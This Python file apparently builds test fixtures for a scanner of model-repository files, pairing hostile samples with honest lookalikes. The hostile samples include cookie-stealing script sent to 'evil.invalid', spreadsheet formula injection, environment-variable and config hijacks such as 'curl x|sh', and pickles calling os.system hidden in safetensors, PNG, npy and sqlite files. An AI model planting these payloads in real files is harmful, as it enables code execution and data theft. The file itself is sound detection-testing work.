"""Harm that a third stranger found we let pass, family by family, and honest files near each.

Each was run once against the program that it is for, or is written as its documentation says.
Addresses do not resolve.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import struct
import zlib
from contextlib import closing

from hostile.build import MEDIUM, Sample, constant
from hostile.strangers_again import bytes_of, texts_of

_AT = "https://evil.invalid/x"
_RUNS = "__import__('os').system('true')"
_PICKLE = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."
_CODED = base64.b64encode(_PICKLE).decode()


def _json(value: object) -> str:
    return json.dumps(value)


def _svg(inner: str, **more: str) -> str:
    attributes = "".join(f' {name}="{value}"' for name, value in more.items())
    return f'<svg xmlns="http://www.w3.org/2000/svg"{attributes}>{inner}</svg>\n'


_SENT = "fetch('//evil.invalid/?'+document.cookie)"
_PAGES = {
    "script in a drawing": ("logo.svg", _svg(f"<script>{_SENT}</script>")),
    "a drawing that acts when it is shown": ("logo.svg", _svg("<rect/>", onload="go()")),
    "a link of a drawing": ("a.svg", _svg('<a href="javascript:alert(1)"><text>x</text></a>')),
    "a link of a drawing, spelled apart": (
        "a.svg",
        _svg('<a href="&#106;ava&#x0A;script:alert(1)"><text>x</text></a>'),
    ),
    "a prefix before script": (
        "a.svg",
        '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>go()</s:script></s:svg>\n',
    ),
    "a frame in a drawing": (
        "a.svg",
        _svg("<foreignObject><iframe src='//evil.invalid'/></foreignObject>"),
    ),
    "a card that sends": ("README.md", f'# m\n\n<img src=x onerror="{_SENT}">\n'),
    "a card with a link that runs": ("README.md", f"# m\n\n[weights](javascript:{_SENT})\n"),
    "a card with a page in a link": (
        "README.md",
        "# m\n\n[a](data:text/html;base64,PHNjcmlwdD4=)\n",
    ),
    "a report that reads Jupyter": (
        "report.html",
        "<!doctype html><body><script>fetch('/api/contents/').then(send)</script></body>\n",
    ),
    "a report that sends cookies": ("report.html", f"<html><script>{_SENT}</script></html>\n"),
    "a page that hands over a program": (
        "demo.html",
        "<html><script>a.download='model.exe';a.click()</script></html>\n",
    ),
    "a page for Windows": (
        "read.hta",
        '<html><script language="VBScript">CreateObject("WScript.Shell").Run "x"</script></html>\n',
    ),
}
_PAGES_HONEST = {
    "a card with a video": (
        "README.md",
        '# m\n\n<iframe src="https://www.youtube.com/embed/x" allowfullscreen></iframe>\n',
    ),
    "a page with its own script": (
        "page.html",
        "<!doctype html><html><script>localStorage.theme='dark'</script></html>\n",
    ),
    "a page that fetches its data": (
        "page.html",
        "<html><script>fetch('data.json').then(draw)</script></html>\n",
    ),
    "a card with an example": ("README.md", "# m\n\n```html\n<script>go()</script>\n```\n"),
    "a card with a picture": (
        "README.md",
        '# m\n\n<img src="a.png" width="80">\n\n[docs](https://x.y)\n',
    ),
    "a drawing with a style": ("a.svg", _svg("<style>rect{fill:red}</style><rect/>")),
}
_CELLS = {
    "data exchange": ("a.csv", "id,name\n1,\"=cmd|'/C true'!A0\"\n"),
    "data exchange behind a sum": ("a.csv", "id,name\n1,\"-2+3+cmd|' /C true'!A0\"\n"),
    "a link that carries cells": (
        "a.csv",
        'id,name\n1,"=HYPERLINK(""https://e.invalid/?""&A1,""x"")"\n',
    ),
    "a web service": ("a.tsv", 'id\tname\n1\t=WEBSERVICE("https://e.invalid/"&A1)\n'),
    "an import": ("a.csv", 'id,name\n1,"=IMPORTXML(CONCAT(""https://e.invalid/?"",A1),""//a"")"\n'),
}
_CELLS_HONEST = {
    "numbers": ("a.csv", "id,v\n1,-3.5e-8\n2,+4\n3,@a\n"),
    "formulas that calculate": ("a.csv", "id,v\n1,=A1*2\n2,=SUM(A1:A9)\n"),
    "a column of choices": ("a.csv", "id,v\n1,-a|b|c\n2,call (me)\n"),
}
_SETTINGS = {
    "a file that Python runs when it starts": (".env", "PYTHONSTARTUP=./.cache/s.py\n"),
    "a file that Node.js loads": (".env", "NODE_OPTIONS=--require ./x.js\n"),
    "an agent in Java": (".env", "JAVA_TOOL_OPTIONS=-javaagent:./a.jar\n"),
    "loaders that trust": (".env", "TRANSFORMERS_TRUST_REMOTE_CODE=true\n"),
    "certificates unchecked": (".env", "NODE_TLS_REJECT_UNAUTHORIZED=0\n"),
    "the socket of containers": (
        "compose.yaml",
        "services:\n  m:\n    image: x\n    volumes:\n"
        "      - /var/run/docker.sock:/var/run/docker.sock\n",
    ),
    "a server without a token": (
        "jupyter_server_config.json",
        _json({"ServerApp": {"token": "", "ip": "*"}}),
    ),
    "what IPython runs": (
        "ipython_config.py",
        "c = get_config()\n"
        "c.InteractiveShellApp.exec_lines = [\"import os; os.system('curl x|sh')\"]\n",
    ),
    "a backend of Triton": ("config.pbtxt", 'name: "m"\nbackend: "../../tmp/b"\n'),
    "operators of Triton": (
        "config.pbtxt",
        'model_operations { op_library_filename: "/tmp/o.so" }\n',
    ),
    "models of TorchServe": ("config.properties", f"load_models={_AT}.mar\n"),
    "all secrets of a workflow": (
        "a.yml",
        "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - env:\n"
        "          S: ${{ toJSON(secrets) }}\n"
        "        run: ./a\n",
    ),
}
_SETTINGS |= {
    "a variable of a pod": (
        "d.yaml",
        "env:\n- name: NODE_OPTIONS\n  value: --require /tmp/x.js\n",
    ),
    "a variable of an image": ("Dockerfile", "FROM x\nENV A=1 BASH_ENV=/tmp/x.sh\n"),
}
_SETTINGS_HONEST = {
    "variables of an image": ("Dockerfile", "FROM x\nENV PORT=1 PYTHONUNBUFFERED 1\n"),
    "variables": (".env", "NODE_OPTIONS=--max-old-space-size=8192\nBROWSER=firefox\nPORT=1\n"),
    "a volume": (
        "compose.yaml",
        "services:\n  m:\n    image: x\n    volumes:\n      - ./models:/models:ro\n",
    ),
    "a server of one machine": ("jupyter_server_config.json", _json({"ServerApp": {"token": ""}})),
    "a model of Triton": ("config.pbtxt", 'name: "m"\nbackend: "onnxruntime"\nmax_batch_size: 8\n'),
    "models of TorchServe": (
        "config.properties",
        "load_models=all\nmodel_store=/home/model-server/s\n",
    ),
}
_NAMED = {
    "a component of AutoGen": ("a.json", _json({"provider": "subprocess.Popen", "config": {}})),
    "a part of a pipeline": ("p.yaml", "components:\n  x:\n    type: subprocess.Popen\n"),
    "a filter of a pipeline": ("p.yaml", "custom_filters:\n  f: os.system\nx: 1\n"),
    "a graph": ("metadata.json", _json({"nodes": {"n": {"uses": "subprocess.Popen", "fn": "x"}}})),
    "a store": ("g.yml", "stores:\n  s:\n    class_name: Popen\n    module_name: subprocess\n"),
    "an object of LangChain": (
        "c.json",
        _json({"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"], "kwargs": {}}),
    ),
    "a system call of LangChain": (
        "c.json",
        _json({"f": {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}}}),
    ),
    "a library of a session": (
        "genai_config.json",
        _json({"model": {"decoder": {"session_options": {"custom_ops_library": "./libx.so"}}}}),
    ),
    "a module of an adapter": (
        "adapter_config.json",
        _json({"peft_type": "LORA", "megatron_core": "evil.core"}),
    ),
    "a file that makes the model": (
        "config.json",
        _json({"model_type": "x", "model_file": "net.py"}),
    ),
    "a vocabulary of the system": (
        "tokenizer_config.json",
        _json({"tokenizer_class": "T", "vocab_file": "../../../etc/passwd"}),
    ),
    "a vocabulary of a share": (
        "tokenizer_config.json",
        _json({"tokenizer_class": "T", "tokenizer_file": "\\\\192.0.2.1\\s\\t.json"}),
    ),
    "a layer of a stranger": (
        "config.json",
        _json({"model_type": "x", "kernel_config": {"kernel_mapping": {"N": "evil/k:N"}}}),
    ),
    "a module of a router": (
        "router_config.json",
        _json({"types": {"a": "evil.mod.E"}, "structure": {}}),
    ),
    "a server that trusts": ("vllm.yaml", "model: evil/m\ntrust-remote-code: true\n"),
    "aliases of aliases": (
        "c.yaml",
        "a: &a [x, x]\n"
        + "".join(
            f"b{n}: &b{n} [{', '.join(['*' + (f'b{n - 1}' if n else 'a')] * 9)}]\n"
            for n in range(8)
        ),
    ),
}
_NAMED_HONEST = {
    "a class of a library": (
        "p.yaml",
        "components:\n  x:\n    type: haystack.components.builders.PromptBuilder\n",
    ),
    "a handler of logging": (
        "l.yaml",
        "handlers:\n  f:\n    class: logging.FileHandler\n    filename: a.log\n",
    ),
    "where it was saved": (
        "tokenizer_config.json",
        _json({"tokenizer_class": "T", "tokenizer_file": "/root/.cache/huggingface/t.json"}),
    ),
    "an identity": (
        "c.json",
        _json({"lc": 1, "type": "constructor", "id": ["langchain_core", "prompts", "P"]}),
    ),
    "merged aliases": (
        "c.yaml",
        "a: &a {x: 1}\nb: &b {y: 2}\nc:\n  <<: [*a, *b]\n  z: [*a, *b, *a, *b]\n",
    ),
}


def _safetensors(metadata: dict[str, str], data: bytes = b"") -> bytes:
    head: dict[str, object] = {"__metadata__": metadata}
    if data:
        head["state"] = {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}
    text = json.dumps(head).encode()
    return struct.pack("<Q", len(text)) + text + data


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(texts: dict[str, str], *, packed: bool = False) -> bytes:
    made = [_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))]
    for key, value in texts.items():
        data = key.encode() + b"\0"
        if packed:
            made.append(_chunk(b"zTXt", data + b"\0" + zlib.compress(value.encode())))
        else:
            made.append(_chunk(b"tEXt", data + value.encode()))
    made += [_chunk(b"IDAT", zlib.compress(b"\0\0")), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(made)


def _npy(data: bytes) -> bytes:
    head = f"{{'descr': '|u1', 'fortran_order': False, 'shape': ({len(data)},), }}".encode()
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + data


def _sqlite(value: bytes | str, before: int = 0) -> bytes:
    import sqlite3

    with closing(sqlite3.connect(":memory:")) as base:
        base.execute("create table rows(a)")
        base.executemany("insert into rows values(?)", [(bytes(1 << 20),)] * before)
        base.execute("insert into rows values(?)", (value,))
        base.commit()
        return base.serialize()


_WITHIN = {
    "evaluated names": ("m.safetensors", _safetensors({"names": _RUNS})),
    "a pickle in metadata": ("m.safetensors", _safetensors({"sklearn": _CODED})),
    "a packed pickle in metadata": (
        "m.safetensors",
        _safetensors({"s": base64.b64encode(gzip.compress(_PICKLE)).decode()}),
    ),
    "names by way of the builtins": (
        "m.safetensors",
        _safetensors({"names": "getattr(__builtins__, 'ev' + 'al')('1')"}),
    ),
    "a pickle behind bzip2": (
        "m.json",
        _json({"w": base64.b64encode(bz2.compress(_PICKLE)).decode()}).encode(),
    ),
    "a pickle behind xz": (
        "m.json",
        _json({"w": base64.b64encode(lzma.compress(_PICKLE)).decode()}).encode(),
    ),
    "a pickle stored by zlib": (
        "m.json",
        _json({"w": base64.b64encode(zlib.compress(_PICKLE, 0)).decode()}).encode(),
    ),
    "a pickle in Base64 twice": (
        "m.json",
        _json({"w": base64.b64encode(_CODED.encode()).decode()}).encode(),
    ),
    "a pickle as a tensor": ("m.safetensors", _safetensors({}, _PICKLE)),
    "a pickle as an array": ("m.npy", _npy(_PICKLE)),
    "a pickle in a column of text": ("m.csv", f"id,model\n1,{_CODED}\n2,x\n".encode()),
    "digits in a column": ("m.csv", f"id,model\n1,{_PICKLE.hex()}\n".encode()),
    "a packed pickle in settings": (
        "m.toml",
        f'model = "{base64.b64encode(gzip.compress(_PICKLE)).decode()}"\n'.encode(),
    ),
    "texts of a picture": ("a.png", _png({"parameters": json.dumps({"resolution": _RUNS})})),
    "packed texts of a picture": ("a.png", _png({"parameters": _RUNS}, packed=True)),
    "a pickle in a picture": ("a.png", _png({"state": _CODED})),
    "a packed row": ("c.db", _sqlite(zlib.compress(_PICKLE))),
    "a row of text": ("c.db", _sqlite(_CODED)),
    "a row behind many": ("c.db", _sqlite(_PICKLE, before=17)),
    "a pickle with a long beginning": (
        "m.json",
        _json(
            {
                "w": base64.b64encode(
                    b"\x80\x04B" + struct.pack("<I", 1 << 17) + bytes(1 << 17) + b"0" + _PICKLE[2:]
                ).decode()
            }
        ).encode(),
    ),
    "an action of a document": (
        "a.pdf",
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /Launch /F (x) >> >>\n"
        b"endobj\n%%EOF\n",
    ),
    "an action in packed objects": (
        "a.pdf",
        b"%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 1 /Filter /FlateDecode >>\nstream\n"
        + zlib.compress(b"<< /OpenAction << /S /JavaScript /JS (x) >> >>")
        + b"\nendstream\nendobj\n%%EOF\n",
    ),
}
_WITHIN_HONEST = {
    "names": ("m.safetensors", _safetensors({"names": "{0: 'person', 1: 'bus'}", "format": "pt"})),
    "bytes of a tensor": ("m.safetensors", _safetensors({}, b"\x80\x7f" * 40)),
    "bytes of an array": ("m.npy", _npy(bytes(range(128)) * 4)),
    "texts of a picture": (
        "a.png",
        _png({"Software": "Matplotlib version3.10", "prompt": '{"a": "cat"}'}),
    ),
    "rows": ("c.db", _sqlite("an eval of os.system")),
    "a document": (
        "a.pdf",
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction [3 0 R /Fit] >>\nendobj\n%%EOF\n",
    ),
}


def _docx(kind: str) -> bytes:
    import zipfile

    made = io.BytesIO()
    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        archive.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r" Type="{types}{kind}" Target="http://e.invalid/t"'
            ' TargetMode="External"/>'
            "</Relationships>",
        )
    return made.getvalue()


def _made(
    family: str, what: dict[str, tuple[str, bytes]], *, harm: bool = True
) -> tuple[Sample, ...]:
    mark = "" if harm else "honest, "
    return tuple(
        Sample(f"third, {mark}{family} {title}", file, constant(data), "see there", MEDIUM)
        for title, (file, data) in what.items()
    )


STRANGERS_THIRD: tuple[Sample, ...] = (
    *texts_of("page, third:", _PAGES),
    *texts_of("table, third:", _CELLS),
    *texts_of("settings, third:", _SETTINGS),
    *texts_of("named, third:", _NAMED),
    *_made("within", _WITHIN),
    *bytes_of(
        "office, third:", "card.docx", {"a template from elsewhere": _docx("attachedTemplate")}
    ),
)
HARMLESS_THIRD: tuple[Sample, ...] = (
    *texts_of("page, third:", _PAGES_HONEST, harm=False),
    *texts_of("table, third:", _CELLS_HONEST, harm=False),
    *texts_of("settings, third:", _SETTINGS_HONEST, harm=False),
    *texts_of("named, third:", _NAMED_HONEST, harm=False),
    *_made("within", _WITHIN_HONEST, harm=False),
    *bytes_of("office, third:", "card.docx", {"a link": _docx("hyperlink")}, harm=False),
)
